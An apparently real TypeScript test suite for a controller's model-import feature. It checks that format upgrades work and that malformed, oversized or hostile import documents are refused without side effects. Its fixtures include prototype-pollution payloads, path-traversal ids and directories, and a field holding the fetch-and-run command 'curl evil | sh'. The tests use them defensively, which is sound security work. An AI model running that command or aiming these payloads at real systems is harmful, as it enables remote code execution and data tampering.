/**
 * What `import-model` accepts and refuses, through the CLI and the REST API of real controllers:
 * a format-1 file is upgraded (databags split from their versions, `unit-ports` renamed) and only
 * that model is written; malformed, truncated, oversized, future-version and prototype-polluting
 * documents get a 400 naming what is wrong, nothing is half-made, and the controller keeps answering;
 * every document must fit its kind's schema, a local machine's directory must be this controller's
 * (or a live agent's), access for users the controller lacks is dropped, and `--name` beside the
 * original makes a copy with its own uuid and agents.
 */
import test from "ava";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { CONTROLLER_TLS_NAME } from "../api";
import type { cliRunner } from "./harness/cli";
import { cliOnControllers } from "./harness/cli";
import type { TestController } from "./harness/controller";
import { allReady, startTestController } from "./harness/controller";
import { eventually } from "./harness/eventually";
import { recordDir, recorderVariant } from "./harness/operators";

type Doc = {
  format: string;
  version: number;
  source: { revision: number };
  documents: Record<string, Record<string, unknown>>;
  versions: { revision: number; bags: Record<string, number> };
  operators: Record<string, unknown>;
};

let a: TestController;
let b: TestController;
let steward: ReturnType<typeof cliRunner>;
let work: string;
let exported: Doc;

test.before(async () => {
  [a, b] = await Promise.all([startTestController(), startTestController()]);
  work = await mkdtemp(join(tmpdir(), "steward-imp-"));
  steward = await cliOnControllers(work, { a, b });
  // Two units of a peer application: unit and application databags, a leader, leader data, a port.
  const dir = await recorderVariant({ name: "peer", peers: { ring: "ring" } });
  await writeFile(
    join(dir, "dispatch"),
    (await readFile(join(dir, "dispatch"), "utf8")) +
      `
if [ "$hook" = "leader-elected" ]; then leader-set token="t-$me"; fi
if [ "$hook" = "start" ]; then open-port 9000/tcp; fi
if [ -n "\${STEWARD_RELATION_ID:-}" ] && [ "$(is-leader)" = "true" ]; then relation-set --app ring=from-$me; fi
`,
    { mode: 0o755 },
  );
  await a.admin.createModel("src");
  await a.admin.deploy("src", {
    name: "peer",
    operator: await a.upload(dir),
    units: 2,
    config: { "record-dir": await recordDir(), "set-marker": true },
  });
  await a.waitForUnits("src", allReady(2), "2 units active", 60_000);
  const out = await steward("export-model", "src", "-o", "src.steward.gz");
  if (out.code !== 0) throw new Error(out.stderr);
  exported = JSON.parse(gunzipSync(await readFile(join(work, "src.steward.gz"))).toString("utf8")) as Doc;
  // Another model on the target, which no import may touch.
  await b.admin.createModel("bystander");
});
test.after.always(async () => {
  await Promise.all([a?.close(), b?.close()]);
});

/** The same model in format 1: databags with their versions inline, ports under their store name. */
function toV1(doc: Doc): Record<string, unknown> {
  const documents: Record<string, Record<string, unknown>> = { ...doc.documents };
  const inline = (kind: string, key: (id: string) => string): void => {
    if (documents[kind])
      documents[kind] = Object.fromEntries(
        Object.entries(documents[kind]).map(([id, data]) => [id, { data, version: doc.versions.bags[key(id)] }]),
      );
  };
  inline("relation-data", (id) => id);
  inline("leader-data", (id) => `leader/${id}`);
  if (documents.ports) {
    documents["unit-ports"] = documents.ports;
    delete documents.ports;
  }
  const { versions: _, ...rest } = doc;
  return { ...rest, version: 1, documents };
}

const post = (body: unknown, query = ""): Promise<{ code?: string; message?: string }> =>
  b.admin.call("POST", `/v1/models/import${query}`, body).then(
    (r) => r as { code?: string },
    (e: unknown) => e as { code: string; message: string },
  );

test.serial("a format-1 file is upgraded on import, and only that model is written", async (t) => {
  t.log(`export of a 2-unit model: ${gzipSync(JSON.stringify(exported)).length} bytes gzipped`);
  t.truthy(exported.documents.ports && exported.documents["relation-data"] && exported.documents["leader-data"]);
  const bystander = await b.admin.call<Doc>("GET", "/v1/models/bystander/export");
  await writeFile(join(work, "v1.steward.gz"), gzipSync(JSON.stringify(toV1(exported))));
  const r = await steward("import-model", "v1.steward.gz", "--name", "copy", "-c", "b");
  t.is(r.code, 0, r.stderr);
  t.regex(r.stdout, /Model "copy" .* imported: \d+ documents, 2 units \(upgraded from format version 1\)/);
  // Read back at once: the bags are served at the versions the file gave (agents compare them).
  const back = await b.admin.call<Doc>("GET", "/v1/models/copy/export");
  for (const [id, v] of Object.entries(exported.versions.bags)) t.is(back.versions.bags[id], v, `version of ${id}`);
  t.deepEqual(back.documents["relation-data"], exported.documents["relation-data"]);
  t.deepEqual(back.documents["leader-data"], exported.documents["leader-data"]);
  t.deepEqual(back.documents.ports, exported.documents.ports, "unit-ports became ports");
  t.is((back.documents.model![""] as { name: string }).name, "copy");
  const after = await b.admin.call<Doc>("GET", "/v1/models/bystander/export");
  t.deepEqual(after.documents, bystander.documents, "the other model is untouched");
});

test.serial(
  "export-model --format-version 2 writes a file the previous release reads, which imports here as the same model",
  async (t) => {
    const r = await steward("export-model", "src", "-o", "v2.steward.gz", "--format-version", "2");
    t.is(r.code, 0, r.stderr);
    t.regex(r.stdout, /format version 2,/);
    const v2 = JSON.parse(gunzipSync(await readFile(join(work, "v2.steward.gz"))).toString("utf8")) as Doc;
    t.is(v2.version, 2);
    const model = v2.documents.model![""] as Record<string, unknown>;
    t.false("placement" in model, "the previous release's model shape");
    t.is(model.substrate, "local");
    const imported = await steward("import-model", "v2.steward.gz", "--name", "from-v2", "-c", "b");
    t.is(imported.code, 0, imported.stderr);
    const back = await b.admin.call<Doc>("GET", "/v1/models/from-v2/export");
    t.deepEqual(
      (back.documents.model![""] as { placement: unknown }).placement,
      (exported.documents.model![""] as { placement: unknown }).placement,
    );
    // A reader older than any format this one writes is told to upgrade; a word is refused as a value.
    const old = await steward("export-model", "src", "-o", "v1.steward.gz", "--format-version", "1");
    t.is(old.code, 1);
    t.regex(old.stderr, /reads model exports up to version 1.*upgrade it first/);
    t.is((await steward("export-model", "src", "-o", "x.gz", "--format-version", "two")).code, 1);
  },
);

test.serial("refusals name what is wrong, write nothing, and the controller keeps answering", async (t) => {
  const models = async (): Promise<string[]> => (await b.admin.listModels()).map((m) => m.name).sort();
  const before = await models();
  const fresh = (): Doc =>
    JSON.parse(
      JSON.stringify({
        ...exported,
        documents: {
          ...exported.documents,
          model: {
            "": {
              ...(exported.documents.model![""] as object),
              uuid: "11111111-2222-4333-8444-555555555555",
              name: "hostile",
            },
          },
        },
      }),
    ) as Doc;
  const cases: [string, unknown, RegExp][] = [
    ["an array", [1, 2], /not a JSON object/],
    ["another format", { ...fresh(), format: "juju" }, /"format" must be "steward-model"/],
    [
      "a future version",
      { ...fresh(), version: 99 },
      /format version 99 is newer than this controller reads \(1 to 5\)/,
    ],
    ["a version that is not a number", { ...fresh(), version: "2" }, /"version" must be a whole number/],
    [
      "truncated: no documents",
      (() => {
        const d: Partial<Doc> = fresh();
        delete d.documents;
        return d;
      })(),
      /"documents" must be an object/,
    ],
    ["no model", { ...fresh(), documents: { app: {} } }, /the model itself\) is missing/],
    [
      "an unknown kind",
      { ...fresh(), documents: { ...fresh().documents, secrets: {} } },
      /unknown kind of document "secrets"/,
    ],
    [
      "presence (not exported)",
      { ...fresh(), documents: { ...fresh().documents, presence: { "0": {} } } },
      /unknown kind of document "presence"/,
    ],
    [
      "an id reaching another key",
      { ...fresh(), documents: { ...fresh().documents, app: { "web/../../users/x": {} } } },
      /id that is not valid for that kind/,
    ],
    [
      "a constructor key",
      {
        ...fresh(),
        documents: { ...fresh().documents, app: { peer: { constructor: { prototype: { polluted: true } } } } },
      },
      /"constructor" .*not allowed/,
    ],
    [
      "a unit on a machine it does not carry",
      (() => {
        const d = fresh();
        d.documents.machine = {};
        return d;
      })(),
      /is on machine "\d+", which the export does not carry/,
    ],
    [
      "a leader that is not a unit",
      (() => {
        const d = fresh();
        d.documents.leader = { peer: { unit: "other/0", since: "x" } };
        return d;
      })(),
      /the leader of "peer" is not one of its units/,
    ],
    [
      "a bundle not matching its hash",
      (() => {
        const d = fresh();
        const [h] = Object.keys(d.operators);
        d.operators[h!] = { files: [{ path: "x", content: "" }] };
        return d;
      })(),
      /does not have the content its hash names|operator bundle/,
    ],
    ["a bad name", fresh(), /not a valid name|name/],
  ];
  for (const [what, body, message] of cases) {
    const res = await post(body, what === "a bad name" ? "?name=Not_A_Name!" : "");
    t.is(res.code, "invalid-request", what);
    t.regex(res.message ?? "", message, what);
  }
  t.is(({} as Record<string, unknown>).polluted, undefined, "Object.prototype untouched");
  // Raw bodies: a __proto__ key, broken JSON, and more than the limit.
  for (const [what, body, message] of [
    [
      "__proto__",
      `{"format":"steward-model","version":2,"__proto__":{"polluted":true}}`,
      /__proto__.{0,4} is not allowed/,
    ],
    ["broken JSON", JSON.stringify(fresh()).slice(0, 500), /not valid JSON/],
  ] as const) {
    const res = await raw(body);
    t.is(res.status, 400, what);
    t.regex(res.text, message, what);
  }
  const big = await raw(`{"format":"steward-model","pad":"${"x".repeat(65 * 1024 * 1024)}"}`);
  t.is(big.status, 400);
  t.regex(big.text, /too large/);
  // The uuid of a model already here, under its own name ("copy" kept the source's uuid).
  const dup = await post(exported);
  t.is(dup.code, "already-exists");
  t.regex(dup.message ?? "", /uuid .* already exists.*--name NEW to make a copy/);
  t.deepEqual(await models(), before, "nothing was half-made");
  t.truthy((await b.admin.status("bystander")).model.name);
});

/** The export under a uuid and name no controller here has. */
const hostile = (name: string, uuid = "22222222-3333-4444-8555-666666666666"): Doc =>
  JSON.parse(
    JSON.stringify({
      ...exported,
      documents: { ...exported.documents, model: { "": { ...(exported.documents.model![""] as object), uuid, name } } },
    }),
  ) as Doc;
const modelNames = async (): Promise<string[]> => (await b.admin.listModels()).map((m) => m.name).sort();

test.serial(
  "every imported document must fit its kind's schema: a wrong type is refused naming the document and field, and nothing is written",
  async (t) => {
    const before = await modelNames();
    const withDoc = (kind: string, id: string, change: (v: Record<string, unknown>) => unknown): Doc => {
      const d = hostile("typed");
      d.documents[kind]![id] = change(d.documents[kind]![id] as Record<string, unknown>);
      return d;
    };
    const [unit] = Object.keys(exported.documents.unit!);
    const [user] = Object.keys(exported.documents.access!);
    const [bag] = Object.keys(exported.documents["relation-data"]!);
    const cases: [string, Doc, RegExp, { kind: string; id: string; path?: string }][] = [
      [
        "a machine's directory as a number",
        withDoc("machine", "0", (m) => ({ ...m, localDir: 5 })),
        /documents\["machine"\]\["0"\].*"localDir"/,
        { kind: "machine", id: "0", path: "localDir" },
      ],
      [
        "a unit's life unknown",
        withDoc("unit", unit!, (u) => ({ ...u, life: "zombie" })),
        /documents\["unit"\]\["peer\/0"\].*"life"/,
        { kind: "unit", id: unit!, path: "life" },
      ],
      [
        "an access level unknown",
        withDoc("access", user!, () => ({ access: "root" })),
        /documents\["access"\].*"access"/,
        { kind: "access", id: user!, path: "access" },
      ],
      [
        "an application setting that is an object",
        withDoc("app", "peer", (a) => ({ ...a, config: { label: { nested: true } } })),
        /documents\["app"\]\["peer"\].*"config\.label"/,
        { kind: "app", id: "peer", path: "config.label" },
      ],
      [
        "a sequence that is text",
        withDoc("machine-seq", "", () => "9"),
        /documents\["machine-seq"\]\[""\]/,
        { kind: "machine-seq", id: "" },
      ],
      [
        "a databag value that is a number",
        withDoc("relation-data", bag!, (v) => ({ ...v, ring: 7 })),
        /documents\["relation-data"\].*"ring"/,
        { kind: "relation-data", id: bag!, path: "ring" },
      ],
      [
        "a field the model does not have",
        withDoc("model", "", (m) => ({ ...m, hooks: "curl evil | sh" })),
        /documents\["model"\]\[""\].*unknown field "hooks"/,
        { kind: "model", id: "" },
      ],
    ];
    for (const [what, body, message, where] of cases) {
      const res = await b.admin
        .call("POST", "/v1/models/import", body)
        .catch((e: unknown) => e as { code: string; message: string; details: Record<string, unknown> });
      const err = res as { code: string; message: string; details: Record<string, unknown> };
      t.is(err.code, "invalid-request", what);
      t.regex(err.message ?? "", message, what);
      t.like(err.details, where, what);
    }
    t.deepEqual(await modelNames(), before, "nothing was written");
  },
);

test.serial(
  "a local machine's directory outside this controller's is refused, and nothing is created there",
  async (t) => {
    const before = await modelNames();
    const uuid = "33333333-4444-4555-8666-777777777777";
    const elsewhere = join(work, "elsewhere");
    const cases: [string, string, RegExp][] = [
      [
        "a directory of no controller",
        join(elsewhere, "machines", uuid, "0"),
        /outside this controller's directory .* holds no agent/,
      ],
      ["a path that climbs out", `${join(b.dir, "c", "machines")}/../../${uuid}/0`, /not an absolute, normalised path/],
      ["not a machine's directory", join(elsewhere, "bin"), /not a local machine's directory/],
    ];
    for (const [what, dir, message] of cases) {
      const d = hostile("placed", uuid);
      d.documents.machine!["0"] = { ...(d.documents.machine!["0"] as object), localDir: dir };
      const err = await post(d);
      t.is(err.code, "invalid-request", what);
      t.regex(err.message ?? "", message, what);
      t.regex(err.message ?? "", /documents\["machine"\]\["0"\]\.localDir/, what);
    }
    // Not a local machine at all.
    const ssh = hostile("placed", uuid);
    ssh.documents.machine!["0"] = {
      ...(ssh.documents.machine!["0"] as object),
      substrate: "manual",
      localDir: join(b.dir, "c", "machines", uuid, "0"),
    };
    t.regex((await post(ssh)).message ?? "", /localDir is only for local machines/);
    t.false(existsSync(elsewhere), "no directory was made");
    t.deepEqual(await modelNames(), before, "nothing was written");
  },
);

test.serial(
  "access for a user the controller does not have is dropped and named, so a user made later under that name gets none",
  async (t) => {
    const d = hostile("guarded", "44444444-5555-4666-8777-888888888888");
    d.documents.access = { ...d.documents.access, ghost: { access: "admin" } };
    const res = await b.admin.call<{ missingUsers: string[]; documents: Record<string, number> }>(
      "POST",
      "/v1/models/import",
      d,
    );
    t.deepEqual(res.missingUsers, ["ghost"]);
    const back = await b.admin.call<Doc>("GET", "/v1/models/guarded/export");
    t.false("ghost" in (back.documents.access ?? {}), "the entry was not stored");
    await b.admin.createUser("ghost", "ghost-password-1");
    const ghost = b.clientFor("ghost", "ghost-password-1");
    t.false((await ghost.listModels()).some((m) => m.name === "guarded"));
    const denied = await ghost.status("guarded").catch((e: unknown) => e as { code: string });
    t.true(["forbidden", "not-found"].includes((denied as { code: string }).code), JSON.stringify(denied));
    ghost.close();
  },
);

test.serial(
  "import-model --name beside the original makes a copy: a new uuid, agents of its own, and the original untouched",
  async (t) => {
    const original = exported.documents.model![""] as { uuid: string };
    const r = await steward("import-model", "src.steward.gz", "--name", "src-copy", "-c", "a");
    t.is(r.code, 0, r.stderr);
    t.regex(r.stdout, new RegExp(`copy of model ${original.uuid} here, with its own uuid`));
    const copy = (await a.admin.listModels()).find((m) => m.name === "src-copy") as { uuid: string } | undefined;
    t.truthy(copy);
    t.not(copy!.uuid, original.uuid);
    // Each of the copy's machines gets an agent of its own: a credential of its own, and that agent's own record.
    const copied = await eventually(
      "the copy's agents connected",
      async () => {
        const d = await a.admin.call<Doc>("GET", "/v1/models/src-copy/export");
        const machines = Object.values(d.documents.machine ?? {}) as { credentialHash?: string }[];
        return machines.length > 0 &&
          machines.every((m) => m.credentialHash) &&
          Object.keys(d.documents["machine-info"] ?? {}).length === machines.length
          ? d
          : undefined;
      },
      90_000,
    );
    const src = await a.admin.call<Doc>("GET", "/v1/models/src/export");
    for (const [id, m] of Object.entries(copied.documents.machine!)) {
      t.not(
        (m as { credentialHash: string }).credentialHash,
        (src.documents.machine![id] as { credentialHash: string }).credentialHash,
        `machine ${id}: the original's agent cannot log in as the copy's`,
      );
    }
    t.deepEqual(src.documents.machine, exported.documents.machine, "the original's machines are as they were");
    await a.waitForUnits("src", allReady(2), "the original's units still active", 60_000);
  },
);

/** A POST with a body sent as it is (the client would parse or refuse it first). */
async function raw(body: string): Promise<{ status: number; text: string }> {
  const token = await b.admin.login();
  const { request } = await import("node:https");
  const url = new URL(`https://${b.addresses[0]}/v1/models/import`);
  return new Promise((resolve, reject) => {
    const req = request(
      url,
      {
        method: "POST",
        ca: b.caCert,
        servername: CONTROLLER_TLS_NAME,
        headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      },
      (res) => {
        let text = "";
        res.on("data", (d: Buffer) => {
          text += d.toString();
        });
        res.on("end", () => resolve({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

test.serial("export needs admin on the model, import a superuser", async (t) => {
  await a.admin.createUser("writer", "writer-password-1");
  // Not a local model: only superusers may write to those.
  await a.admin.createModel("plain", undefined, "manual");
  await a.admin.grant("plain", "writer", "write");
  const writer = a.clientFor("writer", "writer-password-1");
  const exp = await writer.call("GET", "/v1/models/plain/export").catch((e: unknown) => e as { code: string });
  t.is((exp as { code: string }).code, "forbidden");
  await a.admin.grant("plain", "writer", "admin");
  const doc = await writer.call<Doc>("GET", "/v1/models/plain/export");
  t.is(doc.version, 5);
  const imp = await writer
    .call("POST", "/v1/models/import?name=by-writer", doc)
    .catch((e: unknown) => e as { code: string });
  t.is((imp as { code: string }).code, "forbidden");
});
